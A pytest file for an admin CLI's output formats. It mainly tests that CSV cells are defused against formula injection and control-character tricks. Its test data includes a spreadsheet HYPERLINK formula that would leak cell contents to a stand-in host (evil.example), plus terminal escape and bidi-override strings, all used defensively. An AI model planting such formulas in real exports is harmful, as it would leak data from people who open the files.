"""--format table|json|jsonl|csv: the machinery, and where each format applies."""

from __future__ import annotations

import csv
import io
import json

import pytest

from geekai_admin.cli.output import OUTPUT_FORMATS, formats
from geekai_admin.cli.output.formats import KEY_COLUMNS, csv_cell
from tests.cli.running import Cli
from tests.support.fake_api import FakeAPI

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+1", "'+1+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\\tx"),
        ("\rx", "'\\rx"),
        (" =1+1", "' =1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("\u3000=1", "'\\u3000=1"),
        ("\uff1dHYPERLINK()", "'\uff1dHYPERLINK()"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("a\x1b[2Jb\x07", "a\\x1b[2Jb\\x07"),
        ("nul\x00", "nul\\x00"),
        ("c1\x9b31m", "c1\\x9b31m"),
        ("bidi\u202egnp.exe", "bidi\\u202egnp.exe"),
        ("line\nbreak", "line\nbreak"),
        ("plain = fine", "plain = fine"),
        (None, ""),
        (True, "true"),
        (False, "false"),
        ({"tier": "gold"}, '{"tier":"gold"}'),
        ("1234.5", "1234.5"),
    ],
)
def test_csv_cells_are_defused_and_plain(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def test_a_csv_cell_never_carries_a_control_character_but_the_line_feed() -> None:
    hostile = "".join(map(chr, [*range(0x20), 0x7F, *range(0x80, 0xA0), 0x202A, 0x202E, 0x2066, 0x2069]))
    cell = csv_cell("x" + hostile)
    assert all(ch.isprintable() or ch == "\n" for ch in cell)
    assert cell.count("\n") == 1


def test_json_does_not_render_the_table(cli: Cli, api: FakeAPI, monkeypatch: pytest.MonkeyPatch) -> None:
    api.seed(name="x" * 10_000)

    def no_table(*args: object) -> str:
        raise AssertionError("the table was rendered for --json")

    monkeypatch.setattr("geekai_admin.cli.output.text.keys_table", no_table)
    result = cli("--json", "keys", "list")
    assert result.code == 0
    assert result.json()["keys"][0]["name"] == "x" * 10_000


def test_the_formats_the_parser_offers_are_the_ones_rendered() -> None:
    assert set(OUTPUT_FORMATS) == set(formats._RENDERERS)


def _seed_two(api: FakeAPI) -> tuple[str, str]:
    first = api.seed(name=HYPERLINK, group="ha", credit_limit=10000, credit_used=1234.5, expired_at="2027-01-31")
    second = api.seed(name="ci", group="balance", credit_limit=0, credit_used=0.1, expired_at="", last_used_at="")
    return first.uuid, second.uuid


def test_csv_has_the_key_fields_as_header_exact_amounts_and_escaped_formulas(cli: Cli, api: FakeAPI) -> None:
    first, second = _seed_two(api)
    result = cli("keys", "list", "--format", "csv")
    assert (result.code, result.err) == (0, "")
    header, *rows = list(csv.reader(io.StringIO(result.out)))
    assert header == list(KEY_COLUMNS)
    by_uuid = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert by_uuid[first]["name"] == "'" + HYPERLINK
    assert (by_uuid[first]["credit_used"], by_uuid[first]["credit_limit"]) == ("1234.5", "10000")
    assert by_uuid[first]["expires"] == "2027-01-31"
    assert (by_uuid[second]["credit_limit"], by_uuid[second]["expires"]) == ("", "")
    assert by_uuid[second]["credit_used"] == "0.1"
    assert by_uuid[second]["last_used_at"] == ""
    assert by_uuid[second]["expired"] in ("true", "false")


def test_csv_quotes_a_cell_with_a_line_break_so_each_key_stays_one_row(cli: Cli, api: FakeAPI) -> None:
    names = {api.seed(name=name).uuid: name for name in ("x\ry", "\rcr", "a\nb", "c\r\nd")}
    result = cli("keys", "list", "--format", "csv")
    assert result.code == 0
    header, *rows = list(csv.reader(io.StringIO(result.out, newline="")))
    assert all(len(row) == len(header) for row in rows)
    assert {row[0]: row[1] for row in rows} == {uuid: csv_cell(name) for uuid, name in names.items()}
    assert result.out.endswith("\n")
    assert not result.out.endswith("\r\n")


def test_jsonl_is_one_key_a_line_as_in_json(cli: Cli, api: FakeAPI) -> None:
    _seed_two(api)
    lines = cli("keys", "list", "--format", "jsonl").out.splitlines()
    document = cli("--format", "json", "keys", "list").json()
    assert [json.loads(line) for line in lines] == document["keys"]
    assert len(lines) == 2
    assert list(json.loads(lines[0])) == list(KEY_COLUMNS)


def test_json_is_the_same_as_the_old_json_flag_before_or_after(cli: Cli, api: FakeAPI) -> None:
    _seed_two(api)
    outputs = {
        cli(*argv).out
        for argv in (
            ("--json", "keys", "list"),
            ("keys", "list", "--json"),
            ("--format", "json", "keys", "list"),
            ("keys", "list", "--format", "json"),
            ("--format", "csv", "keys", "list", "--json"),  # the last one given wins, as with any option
        )
    }
    assert len(outputs) == 1
    assert json.loads(outputs.pop())["keys"]


def test_an_empty_list_in_jsonl_is_no_line_and_in_csv_the_header(cli: Cli) -> None:
    assert cli("keys", "list", "--format", "jsonl").out == ""
    assert cli("keys", "list", "--format", "csv").out == ",".join(KEY_COLUMNS) + "\n"


@pytest.mark.parametrize(
    "argv",
    [
        ["balance"],
        ["keys", "get", "123e4567-e89b-12d3-a456-426614174000"],
        ["keys", "delete", "123e4567-e89b-12d3-a456-426614174000", "--yes"],
        ["keys", "create", "--name", "x"],
        ["keys", "rotate", "123e4567-e89b-12d3-a456-426614174000"],
        ["report"],
        ["check"],
    ],
)
@pytest.mark.parametrize("output_format", ["jsonl", "csv"])
def test_row_formats_elsewhere_are_a_usage_error_and_send_nothing(
    cli: Cli, api: FakeAPI, argv: list[str], output_format: str
) -> None:
    result = cli("--format", output_format, *argv)
    assert (result.code, result.out) == (2, "")
    assert f"--format {output_format} prints one row per key" in result.err
    assert api.log == []


def test_an_unknown_format_is_a_usage_error(cli: Cli, api: FakeAPI) -> None:
    result = cli("keys", "list", "--format", "yaml")
    assert result.code == 2
    assert "invalid choice: 'yaml'" in result.err
    assert api.log == []
